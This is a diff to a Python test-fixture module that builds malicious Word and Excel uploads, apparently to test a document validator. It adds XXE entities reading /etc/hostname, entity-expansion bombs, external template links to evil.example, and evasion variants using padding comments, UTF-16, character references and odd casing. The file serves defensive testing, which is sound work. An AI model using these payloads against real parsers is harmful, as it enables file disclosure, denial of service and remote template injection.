@@ -20,6 +20,11 @@ HEADING = "name,email"
 XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
 LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
 RELS = b'<Relationships><Relationship Id="r" Type="http://x/%s" Target="http://evil.example/" TargetMode="External"/>'
+RELS += b"</Relationships>"
+TURNED = (
+    b'<Relationships><Relationship TargetMode="External" Target="http://evil.example/" Type="http://x/attached%s"/>'
+)
+TURNED += b"</Relationships>"
 MEGABYTE = 1024 * 1024
 LAST_MOMENT = datetime(9999, 12, 31, 23, 59, 59, 999999, UTC).replace(tzinfo=None)
 
@@ -74,6 +79,14 @@ def book_with(parts: dict[str, bytes], *, without: str = "") -> bytes:
     with zipfile.ZipFile(io.BytesIO(book(("name", "email"), ("Elif Aydin", "e@example.com")))) as packed:
         kept = {name: packed.read(name) for name in packed.namelist() if name != without}
     return archive(kept | parts)
+
+
+def late_entities() -> bytes:
+    """A sheet whose heading and row hold an entity, declared far behind the beginning."""
+    cell = '<c r="A{0}" t="inlineStr"><is><t>&a;</t></is></c>'
+    rows = "".join(f'<row r="{row}">{cell.format(row)}</row>' for row in (1, 2))
+    late = b"<!--" + b"x" * 70_000 + b'--><!DOCTYPE worksheet [<!ENTITY a "name">]>'
+    return late + sheet_of(rows)
 
 
 def sheet_of(cells: str) -> bytes:
@@ -131,6 +144,27 @@ def cvs() -> dict[str, tuple[str, bytes]]:
         "word with a template from elsewhere": (
             "cv.docx",
             word(**{"word/_rels/settings.xml.rels": RELS % b"attachedTemplate"}),
+        ),
+        "word with a template late in the part": (
+            "cv.docx",
+            word(**{"word/_rels/settings.xml.rels": b"<!--" + b"x" * 70_000 + b"-->" + RELS % b"attachedTemplate"}),
+        ),
+        "word with a template in another order": (
+            "cv.docx",
+            word(**{"word/_rels/settings.xml.RELS": TURNED % b"&#84;emplate"}),
+        ),
+        "word with a template in UTF-16": (
+            "cv.docx",
+            word(**{"word/_rels/settings.xml.rels": (RELS % b"attachedTemplate").decode().encode("utf-16")}),
+        ),
+        "word with late entities": (
+            "cv.docx",
+            word(**{"word/footer.xml": b"<!--" + b"x" * 70_000 + b"-->" + XXE[21:]}),
+        ),
+        "word with broken links": ("cv.docx", word(**{"word/_rels/document.xml.rels": b"<Relationships>"})),
+        "word with endless links": (
+            "cv.docx",
+            word(**{"word/_rels/document.xml.rels": b"<Relationships>" + b"<a/>" * 300_000 + b"</Relationships>"}),
         ),
         "word with a picture from elsewhere": ("cv.docx", word(**{"word/_rels/document.xml.rels": RELS % b"image"})),
         "word packed in an odd way": (
@@ -201,6 +235,11 @@ def tables() -> dict[str, tuple[str, bytes]]:
         "workbook of too many parts": ("people.xlsx", book_with({f"xl/p{i}.xml": b"" for i in range(501)})),
         "workbook with outside entities": ("people.xlsx", book_with({"xl/worksheets/sheet1.xml": XXE})),
         "workbook with entities that grow": ("people.xlsx", book_with({"xl/sharedStrings.xml": LAUGHS})),
+        "workbook with late entities": ("people.xlsx", book_with({"xl/worksheets/sheet1.xml": late_entities()})),
+        "workbook with entities in UTF-16": (
+            "people.xlsx",
+            book_with({"xl/worksheets/sheet1.xml": late_entities().decode().encode("utf-16")}),
+        ),
         "workbook with a broken sheet": ("people.xlsx", book_with({"xl/worksheets/sheet1.xml": b"<worksheet><sheet"})),
         "workbook with a row beyond all": (
             "people.xlsx",
